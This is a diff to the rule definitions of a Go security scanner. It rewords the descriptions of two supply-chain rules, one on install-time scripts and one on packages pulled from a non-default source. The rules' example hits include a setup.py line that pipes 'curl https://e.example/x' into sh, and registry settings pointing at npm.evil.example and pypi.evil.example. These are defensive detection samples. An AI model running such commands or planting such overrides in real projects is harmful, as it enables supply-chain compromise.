@@ -17,7 +17,7 @@ var (
 	installScript = &Rule{
 		ID: "umpire/build/install-script", Severity: finding.Low, CWE: "CWE-829",
 		Title:  "A script that runs when the package is installed",
-		Text:   "Package managers run this by themselves, with the rights of whoever installs. ",
+		Text:   "Package managers run this automatically, with the rights of the user who installs. ",
 		Remedy: "Install with scripts off, or read what it runs.",
 		Hits:   []Example{{"package.json", "{\"scripts\":{\"postinstall\":\"node x.js\"}}\n"}, {"setup.py", "import os\nos.system('curl https://e.example/x | sh')\n"}, {"composer.json", "{\"scripts\":{\"post-install-cmd\":[\"sh x\"]}}\n"}, {"build.rs", "fn main() { std::process::Command::new(\"curl\"); }\n"}},
 		Misses: []Example{{"package.json", "{\"scripts\":{\"test\":\"node x.js\"}}\n"}, {"setup.py", "from setuptools import setup\nsetup(name='x')\n"}, {"build.rs", "fn main() { println!(\"cargo:rerun-if-changed=x\"); }\n"}},
@@ -25,7 +25,7 @@ var (
 	registry = &Rule{
 		ID: "umpire/build/registry", Severity: finding.Medium, CWE: "CWE-829",
 		Title:  "Packages come from another place than usual",
-		Text:   "The file makes a package manager take packages from a place of its own choice, for all or for some. ",
+		Text:   "The file makes a package manager take all or some packages from a source that it names. ",
 		Remedy: "Check who runs that place, and that names cannot be taken over there.",
 		Hits:   []Example{{".npmrc", "registry=https://npm.evil.example/\n"}, {"requirements.txt", "--extra-index-url https://pypi.evil.example/simple\n"}, {".cargo/config.toml", "[source.crates-io]\nreplace-with = \"x\"\n"}, {"pip.conf", "[global]\nindex-url = http://pypi.evil.example\n"}},
 		Misses: []Example{{".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true\n"}, {"requirements.txt", "requests==2.0\n"}},
